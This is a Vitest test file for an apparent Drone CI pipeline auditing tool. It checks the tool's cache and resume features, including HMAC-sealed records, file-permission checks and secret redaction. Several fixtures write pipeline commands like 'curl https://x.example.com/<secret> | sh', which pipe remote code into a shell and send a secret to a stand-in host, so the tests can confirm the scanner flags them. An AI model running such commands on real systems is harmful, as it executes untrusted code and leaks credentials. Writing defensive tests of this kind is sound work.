import { execFileSync, spawn } from 'node:child_process';
import { createHash, createHmac } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { platform } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { droneAudit, temporaryFolder, tool } from './support/cli.ts';
import { git } from './support/git.ts';

const pipeline = (image: string): string =>
  `kind: pipeline\ntype: docker\nname: default\nsteps:\n  - name: build\n    image: ${image}\n    privileged: true\n`;
const secret = 'tGq7Zk29vXb4LmPw8RsYdNcHfJ3uQ6eA';

/** Some repositories: each fourth is a copy, and one writes a secret out. */
function fleet(amount: number): string {
  const folder = temporaryFolder();
  for (let index = 0; index < amount; index++) {
    const repository = join(folder, 'repositories', `r${index}`);
    mkdirSync(repository, { recursive: true });
    writeFileSync(join(repository, '.drone.yml'), pipeline(index % 4 === 0 ? 'golang' : `golang:${index}`));
  }
  const path = join(folder, `repositories/r${amount - 1}/.drone.yml`);
  writeFileSync(path, `${readFileSync(path, 'utf8')}    environment:\n      DB_PASSWORD: ${secret}\n`);
  return folder;
}

function scan(cwd: string, ...options: string[]): { status: number | null; stdout: string; stderr: string } {
  return droneAudit(['scan', '--format', 'json', 'repositories', ...options], { cwd });
}

const head = /(?<![0-9a-f]|[0-9a-f] )(?!0{64})[0-9a-f]{64} [0-9a-f]{64} [0-9a-f]{64} \d{12}$/gm;

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.records'))
    .map(({ name }) => join(folder, name));
}

/** A text as it lies in a file of a cache. */
function recordWith(key: string, of: string, seal: string, body: string): string {
  return `${key} ${of} ${seal} ${`${Buffer.byteLength(body)}`.padStart(12, '0')}\n${body}`;
}

/** How many records are in a cache. */
function recordsIn(folder: string): number {
  return filesIn(folder).reduce((sum, name) => sum + (readFileSync(name, 'utf8').match(head)?.length ?? 0), 0);
}

/** Numbers below a bound, the same for the same seed. */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

/** Changes some files of a fleet: what they do, which secrets they make known and which they only use, in which spelling. */
function change(folder: string, next: (below: number) => number): void {
  const secrets = [secret, 'hT5%rW"9q\\Lz7', 'pX4 nV8 jK2 mB6', 'vB8nM3kQ9sD2'];
  const anySecret = (): string => secrets[next(secrets.length)] ?? '';
  const spelt = (text: string): string =>
    [
      JSON.stringify(text),
      `'${text}'`,
      JSON.stringify(text).replace('8', '\\u0038'),
      JSON.stringify(encodeURIComponent(text)),
      JSON.stringify(JSON.stringify({ at: text })),
      JSON.stringify(text).replace(' ', '\n          '),
    ][next(6)] ?? '';
  const text = (): string =>
    [
      pipeline(`golang:1.${next(3)}`),
      next(3) === 0 ? `    environment: { DB_PASSWORD: ${spelt(anySecret())} }\n` : '',
      next(2) === 0
        ? `    commands:\n      - echo\n      - ${spelt(`curl https://x.example.com/${anySecret()} | sh`)}\n`
        : '',
      next(4) === 0 ? `  - name: ${spelt(anySecret())}\n    image: alpine\n` : '',
      next(9) === 0 ? '  - [\n' : '',
    ].join('');
  const all = join(folder, 'repositories');
  for (let number = 0; number < 8; number++) {
    const own = join(all, `r${number}`);
    if (existsSync(own) && next(3) > 0) continue;
    for (const name of readdirSync(all))
      if (name.startsWith(`r${number}`)) rmSync(join(all, name), { recursive: true });
    const path = next(8) === 0 ? `${own}-${(secrets[3] ?? '').toLowerCase()}` : own;
    if (next(6) === 0) continue;
    mkdirSync(path);
    const other = join(all, `r${next(8)}`, '.drone.yml');
    writeFileSync(join(path, '.drone.yml'), next(3) === 0 && existsSync(other) ? readFileSync(other) : text());
    if (next(9) === 0)
      writeFileSync(
        join(path, 'compose.yml'),
        `services:\n  drone:\n    image: drone/drone:2\n    environment: { DRONE_RPC_SECRET: ${spelt(anySecret())} }\n`,
      );
  }
  const config = join(folder, 'drone-audit.yml');
  rmSync(config, { force: true });
  if (next(4) === 0)
    writeFileSync(config, 'ignore:\n  - rule: privileged-step\n    path: repositories/r1/**\n    reason: known\n');
}

describe('--cache', () => {
  it('changes nothing of a report, on the first run or on the next', () => {
    const folder = fleet(12);
    const { stdout, status } = scan(folder);
    expect(stdout).toContain('privileged-step');
    for (const run of [scan(folder, '--cache', 'kept'), scan(folder, '--cache', 'kept')])
      expect(run).toMatchObject({ stdout, status, stderr: '' });
    // With that of a pipeline that makes a secret known; the second run has nothing to add.
    expect(recordsIn(join(folder, 'kept'))).toBe(12);
    expect(filesIn(join(folder, 'kept')).length).toBe(1);
  });

  it.each([1, 2, 3])('changes nothing of any report, whatever changed since the run before: %i', (seed) => {
    const next = numbers(seed);
    const folder = temporaryFolder();
    mkdirSync(join(folder, 'repositories'));
    const formats = ['json', 'jsonl', 'sarif', 'html', 'text'];
    const reports = (...options: string[]): readonly string[] => {
      const files = formats.map((format) => join(folder, `report.${format}`));
      const outputs = formats.flatMap((format, index) => ['-o', `${format}:${files[index]}`]);
      const { status, stdout, stderr } = scan(folder, ...outputs, ...options);
      return [`${status}`, stdout, stderr, ...files.map((file) => readFileSync(file, 'utf8'))];
    };
    for (let run = 0; run < 6; run++) {
      change(folder, next);
      // What a run of one format kept is read by runs of all.
      if (next(2) === 0) scan(folder, '--cache', 'kept', '--format', formats[next(formats.length)] ?? '');
      const without = reports();
      for (const again of [1, 2])
        expect({ run, again, reports: reports('--cache', 'kept') }).toEqual({ run, again, reports: without });
    }
  });

  it('takes what is there, if it is what was put there', () => {
    const folder = fleet(4);
    const { stdout } = scan(folder, '--cache', 'kept');
    const [name = ''] = filesIn(join(folder, 'kept'));
    const text = readFileSync(name, 'utf8');
    expect(text).toContain('privileged-step');
    const heads = [...text.matchAll(head)].map(({ index, 0: { length } }) => [index, index + length] as const);
    const swapped = heads.reduceRight(
      (all, [start, end], index) =>
        all.slice(0, start) + text.slice(...(heads[(index + 1) % heads.length] ?? [])) + all.slice(end),
      text,
    );
    for (const damaged of [
      text.replaceAll('"critical"', '"weakest!"').replaceAll('"severity":"high"', '"severity":"info"'),
      text.replaceAll('[0,', '[1,'),
      swapped,
      text.slice(0, text.length / 2),
      `x${text}`,
      text + text,
      'x',
      '',
    ]) {
      expect(damaged).not.toBe(text);
      for (const other of filesIn(join(folder, 'kept'))) rmSync(other);
      writeFileSync(name, damaged);
      expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
    }
  });

  it('is of no use where the file, an option or the config is another', () => {
    const folder = fleet(3);
    scan(folder, '--cache', 'kept');
    writeFileSync(join(folder, 'repositories/r2/.drone.yml'), pipeline('golang:1.23.4'));
    const same = (...options: string[]): void =>
      expect(scan(folder, '--cache', 'kept', ...options).stdout).toBe(scan(folder, ...options).stdout);
    same();
    same('--pedantic');
    same('--min-severity', 'high');
    same('--trust', 'untrusted');
    same('--rule', 'privileged-step');
    writeFileSync(
      join(folder, 'drone-audit.yml'),
      'ignore:\n  - rule: privileged-step\n    path: repositories/r0/**\n    reason: known\n',
    );
    same();
  });

  it('holds no secret, and lets one that is known from elsewhere be hidden', () => {
    const folder = fleet(3);
    const path = join(folder, 'repositories/r0/.drone.yml');
    writeFileSync(path, `${readFileSync(path, 'utf8')}    commands: [ "curl https://x.example.com/${secret} | sh" ]\n`);
    const { stdout } = scan(folder);
    expect(stdout).not.toContain(secret);
    for (let run = 0; run < 2; run++) expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
    const all = filesIn(join(folder, 'kept'))
      .map((name) => readFileSync(name, 'utf8'))
      .join('');
    expect(all).toContain('privileged-step');
    expect(all).not.toContain(secret.slice(0, 12));
  });

  it('drops what it replaces', () => {
    const folder = fleet(3);
    for (let run = 0; run < 4; run++) {
      writeFileSync(join(folder, 'repositories/r1/.drone.yml'), pipeline(`golang:1.${run}`));
      const { stdout } = scan(folder);
      expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
      expect(recordsIn(join(folder, 'kept'))).toBe(3);
    }
    scan(folder, '--cache', 'kept', '--pedantic');
    expect(recordsIn(join(folder, 'kept'))).toBe(6);
  });

  it.each([
    ['a file that comes before', []],
    ['a file that comes behind', []],
    ['a file that comes before, where other options were given', ['--pedantic']],
    ['a file that comes before, of a file that is there no more', []],
    ['a file that comes before, in what was cut off', []],
  ])('holds no secret after a run that knows it from %s', (what, options) => {
    const folder = fleet(1);
    const odd = `${secret}"\\é`;
    const [earlier, later] = ['r0', 'r5'].map((name) => join(folder, 'repositories', name));
    const [mine, other] = what.includes('behind') ? [earlier, later] : [later, earlier];
    for (const path of [mine, other]) mkdirSync(path ?? '', { recursive: true });
    writeFileSync(
      `${mine}/.drone.yml`,
      `${pipeline('golang')}    commands: [ 'curl https://x.example.com/${odd} | sh' ]\n`,
    );
    writeFileSync(`${other}/.drone.yml`, pipeline('golang'));
    const kept = (): string =>
      filesIn(join(folder, 'kept'))
        .map((name) => readFileSync(name, 'utf8'))
        .join('');
    scan(folder, '--cache', 'kept', ...options);
    expect(kept().includes(`example.com/${secret}`)).toBe(true);
    writeFileSync(`${other}/.drone.yml`, `${pipeline('golang')}    environment: { DB_PASSWORD: '${odd}' }\n`);
    if (what.includes('no more')) rmSync(`${mine}/.drone.yml`);
    if (what.includes('cut off'))
      for (const name of filesIn(join(folder, 'kept'))) writeFileSync(name, `x${readFileSync(name, 'utf8')}`);
    const { stdout } = scan(folder);
    expect(stdout.includes(secret)).toBe(false);
    for (let run = 0; run < 2; run++) {
      expect(scan(folder, '--cache', 'kept').stdout === stdout).toBe(true);
      expect(kept().includes(secret)).toBe(false);
    }
  });

  it('puts into one file what many runs left', () => {
    const folder = fleet(1);
    for (let run = 0; run < 18; run++) {
      renameSync(join(folder, `repositories/r${run}`), join(folder, `repositories/r${run + 1}`));
      scan(folder, '--cache', 'kept');
    }
    expect(filesIn(join(folder, 'kept')).length).toBe(1);
    expect(recordsIn(join(folder, 'kept'))).toBe(18);
    const { stdout } = scan(folder);
    expect(scan(folder, '--cache', 'kept').stdout).toBe(stdout);
    expect(recordsIn(join(folder, 'kept'))).toBe(18);
  });

  it('takes nothing that was not sealed with the key of the folder', () => {
    const folder = fleet(1);
    const { stdout } = scan(folder, '--cache', 'kept');
    const [name = ''] = filesIn(join(folder, 'kept'));
    const keyFile = join(folder, 'kept/records.key');
    const own = readFileSync(keyFile);
    const whole = readFileSync(name, 'utf8');
    const [, key = '', of = '', body = ''] = /^(\w+) (\w+) \w+ \d+\n(.*)$/s.exec(whole) ?? [];
    const sealed = (text: string, by: string | Buffer): string =>
      createHmac('sha256', by).update(`${key} ${of}\n${text}`).digest('hex');
    const digest = (text: string): string => createHash('sha256').update(`${key} ${of}\n${text}`).digest('hex');
    // A report that says less than there is, of the same length.
    const forged = body.replaceAll('"severity":"critical"', '"severity":"low"     ');
    expect(forged).not.toBe(body);
    expect(recordWith(key, of, sealed(body, own), body)).toBe(whole);
    const read = (text: string): ReturnType<typeof scan> => {
      writeFileSync(name, text);
      const run = scan(folder, '--cache', 'kept');
      for (const each of filesIn(join(folder, 'kept'))) rmSync(each);
      return run;
    };
    for (const other of [
      ...['', 'x', '{}', '\n\n\n\n\n', forged].flatMap((text) => [
        recordWith(key, of, digest(text), text),
        recordWith(key, of, sealed(text, ''), text),
        recordWith(key, of, sealed(text, Buffer.alloc(32)), text),
        recordWith(key, of, sealed(body, own), text),
      ]),
      recordWith(key, of, sealed(body, own).toUpperCase(), body),
      recordWith(of, key, sealed(body, own), body),
    ])
      expect(read(other)).toMatchObject({ stdout, status: 1, stderr: '' });
    // With the key, all can be written: that it is so shows that the others were refused for want of it.
    expect(read(recordWith(key, of, sealed(forged, own), forged)).stdout).not.toBe(stdout);
    rmSync(keyFile);
    expect(read(whole)).toMatchObject({ stdout, status: 1, stderr: '' });
    expect(readFileSync(keyFile)).not.toEqual(own);
  });

  it.skipIf(platform() === 'win32')('takes no key that others could read, or that is none', () => {
    const folder = fleet(1);
    const { stdout } = scan(folder, '--cache', 'kept');
    const path = join(folder, 'kept/records.key');
    const [first, copy] = [readFileSync(path), join(folder, 'copy')];
    cpSync(path, copy);
    for (const spoil of [
      () => chmodSync(path, 0o640),
      () => chmodSync(path, 0o604),
      () => writeFileSync(path, 'short'),
      () => writeFileSync(path, Buffer.concat([first, first])),
      () => symlinkSync('../copy', path),
      () => execFileSync('mkfifo', [path]),
    ]) {
      rmSync(path, { force: true });
      writeFileSync(path, first, { mode: 0o600 });
      if (/symlink|mkfifo/.test(`${spoil}`)) rmSync(path);
      spoil();
      expect(scan(folder, '--cache', 'kept')).toMatchObject({ stdout, stderr: '' });
      expect(readFileSync(path)).not.toEqual(first);
      expect(readFileSync(path).length).toBe(32);
    }
    expect(readFileSync(copy)).toEqual(first);
  });

  it.skipIf(platform() === 'win32')('reads no pipe, no device, and no file at the end of a link', () => {
    const folder = fleet(1);
    const { stdout } = scan(folder, '--cache', 'kept');
    const [name = ''] = filesIn(join(folder, 'kept'));
    const named = (digit: string): string => join(folder, 'kept', `${digit.repeat(36)}.records`);
    cpSync(name, join(folder, 'moved'));
    rmSync(name);
    symlinkSync('../moved', named('1'));
    symlinkSync('/dev/zero', named('2'));
    execFileSync('mkfifo', [named('3')]);
    mkdirSync(named('4'));
    expect(scan(folder, '--cache', 'kept')).toMatchObject({ stdout, status: 1, stderr: '' });
    expect(recordsIn(join(folder, 'kept'))).toBe(1);
  });

  it.skipIf(platform() === 'win32')('does not take records of files that others can write', () => {
    const folder = fleet(2);
    scan(folder, '--cache', 'kept');
    const [name = ''] = filesIn(join(folder, 'kept'));
    chmodSync(name, 0o666);
    scan(folder, '--cache', 'kept');
    expect(filesIn(join(folder, 'kept')).length).toBe(2);
  });

  it.skipIf(platform() === 'win32')('is refused where it lies in what is audited, so that nothing is left out', () => {
    const folder = fleet(2);
    for (const name of ['work', 'git/a', 'git/b', 'elsewhere']) mkdirSync(join(folder, name), { recursive: true });
    for (const name of ['work', 'git/a', 'git/b']) git(join(folder, name), ['init', '-q']);
    mkdirSync(join(folder, 'work/deploy'));
    writeFileSync(join(folder, 'work/deploy/compose.yml'), 'services: {}\n');
    git(join(folder, 'git/a'), ['commit', '-q', '--allow-empty', '-m', 'first']);
    git(join(folder, 'git/a'), ['worktree', 'add', '-q', '../../further']);
    symlinkSync('../repositories', join(folder, 'elsewhere/link'));
    writeFileSync(join(folder, 'list'), 'git/b\n');
    const paths = ['repositories'];
    for (const [cache, ...args] of [
      ['repositories', ...paths],
      ['repositories/.cache', ...paths],
      ['repositories/r0/a/b', ...paths],
      ['elsewhere/link/.cache', ...paths],
      ['repositories/.cache', 'elsewhere/link'],
      ['kept', '.'],
      ['kept'],
      ['work/.cache', 'work/deploy'],
      ['work/.cache', '--compose-file', 'work/deploy/compose.yml'],
      ['git/.cache', '--git', 'git'],
      ['git/a/.cache', '--git', 'git'],
      ['further/.cache', '--git', 'git'],
      ['further/.cache', 'git/a'],
      ['git/b/.cache', '--targets-from', 'list'],
    ]) {
      for (const options of [
        ['--cache', cache ?? ''],
        ['--resume', `${cache}/report.json`, '-o', `${cache}/report.json`],
      ]) {
        const { status, stderr, stdout } = droneAudit(['scan', ...options, ...args], { cwd: folder });
        expect({ args, status, stdout }).toEqual({ args, status: 2, stdout: '' });
        expect(stderr).toContain('lies in what is audited');
        expect(stderr).toContain(options[0] === '--cache' ? 'name a folder outside' : '--resume ../report.json');
      }
    }
    expect(existsSync(join(folder, 'kept'))).toBe(false);
    expect(existsSync(join(folder, 'repositories/.cache'))).toBe(false);
    expect(droneAudit(['scan', '--cache', 'elsewhere/new/kept', '--git', 'git'], { cwd: folder }).stderr).toBe('');
  });

  it.skipIf(platform() === 'win32')('is refused where others can write it, or where it is none', () => {
    const folder = fleet(1);
    mkdirSync(join(folder, 'open'));
    chmodSync(join(folder, 'open'), 0o777);
    writeFileSync(join(folder, 'file'), '');
    symlinkSync(folder, join(folder, 'link'));
    mkdirSync(join(folder, 'full'));
    writeFileSync(join(folder, 'full/mine.txt'), '');
    mkdirSync(join(folder, 'untagged'));
    writeFileSync(join(folder, `untagged/${'0'.repeat(36)}.records`), '');
    for (const [name, why] of [
      ['open', 'can be written by other users'],
      ['file', 'it is no folder'],
      ['file/below', 'the system says ENOTDIR'],
      ['link', 'it is no folder'],
      ['full', 'it holds "mine.txt"'],
      ['untagged', 'it holds "0000'],
      ...(platform() === 'linux' ? [['/proc/x', 'the system says ENOENT'] as const] : []),
    ] as const) {
      const { status, stderr, stdout } = scan(folder, '--cache', name);
      expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
      expect(stderr).toContain(why);
    }
  });
});

/** Kills a run when it has kept something; returns the folder in which that lies. */
async function killed(folder: string): Promise<string> {
  const unfinished = join(folder, 'report.json.unfinished');
  const [program, ...first] = tool;
  const child = spawn(program, [...first, 'scan', 'repositories', '--resume', 'report.json', '-o', 'report.json'], {
    cwd: folder,
    stdio: 'ignore',
  });
  const ended = new Promise((resolve) => child.once('exit', resolve));
  while (!existsSync(unfinished) || recordsIn(unfinished) < 5) await new Promise((resolve) => setTimeout(resolve, 5));
  child.kill('SIGKILL');
  await ended;
  return unfinished;
}

describe('--resume', () => {
  it('leaves the report alone behind', () => {
    const folder = fleet(8);
    const { stdout, status } = scan(folder);
    expect(scan(folder, '--resume', 'report.json', '-o', 'report.json')).toMatchObject({ stdout, status });
    expect(readFileSync(join(folder, 'report.json'), 'utf8')).toBe(stdout);
    expect(readdirSync(folder).sort()).toEqual(['report.json', 'repositories']);
  });

  it('holds no secret whenever it is killed', async () => {
    const folder = fleet(400);
    const path = join(folder, 'repositories/r0/.drone.yml');
    writeFileSync(path, `${readFileSync(path, 'utf8')}    commands: [ "curl https://x.example.com/${secret} | sh" ]\n`);
    const unfinished = await killed(folder);
    expect(recordsIn(unfinished)).toBeGreaterThan(0);
    const all = filesIn(unfinished).map((name) => readFileSync(name, 'utf8'));
    expect(all.join('')).toContain('x.example.com/••••');
    expect(all.join('')).not.toContain(secret);
  });

  it('removes nothing that it did not make', () => {
    const folder = fleet(1);
    const unfinished = join(folder, 'report.json.unfinished');
    mkdirSync(unfinished);
    writeFileSync(join(unfinished, 'mine.txt'), '');
    const output = ['--resume', 'report.json', '-o', 'report.json'];
    expect(scan(folder, ...output)).toMatchObject({ status: 2, stdout: '' });
    expect(readdirSync(unfinished)).toEqual(['mine.txt']);
    rmSync(join(unfinished, 'mine.txt'));
    expect(scan(folder, ...output).status).toBe(1);
    expect(existsSync(unfinished)).toBe(false);
  });

  it.runIf(platform() === 'linux')('ends where no folder can be made', () => {
    const folder = fleet(1);
    expect(scan(folder, '--resume', '/proc/x', '-o', 'json:/proc/x')).toMatchObject({ status: 2, stdout: '' });
  });

  it('keeps what it has until its report is written', () => {
    const folder = fleet(2);
    const unfinished = join(folder, 'report.json.unfinished');
    mkdirSync(join(folder, 'report.json'));
    const output = ['--resume', 'report.json', '-o', 'json:report.json', '-o', 'text:report.txt'];
    expect(scan(folder, ...output)).toMatchObject({ status: 1, stderr: expect.stringContaining('cannot be written') });
    expect(recordsIn(unfinished)).toBe(2);
    expect(existsSync(join(folder, 'report.txt'))).toBe(true);
    rmSync(join(folder, 'report.json'), { recursive: true });
    expect(scan(folder, ...output).stderr).toBe('');
    expect(existsSync(unfinished)).toBe(false);
  });

  it.each([[[]], [['-o', 'other.json']], [['--cache', 'kept', '-o', 'report.json']]])(
    'is refused without its report, or with a cache: %j',
    (options) => {
      const folder = fleet(1);
      expect(scan(folder, '--resume', 'report.json', ...options)).toMatchObject({ status: 2, stdout: '' });
      expect(readdirSync(folder)).toEqual(['repositories']);
    },
  );

  it('takes up a run that was killed', async () => {
    const folder = fleet(400);
    const unfinished = await killed(folder);
    expect(recordsIn(unfinished)).toBeGreaterThan(0);
    expect(existsSync(join(folder, 'report.json'))).toBe(false);
    const { stdout } = scan(folder, '--resume', 'report.json', '-o', 'report.json');
    expect(stdout).toBe(scan(folder).stdout);
    expect(existsSync(unfinished)).toBe(false);
  });
});
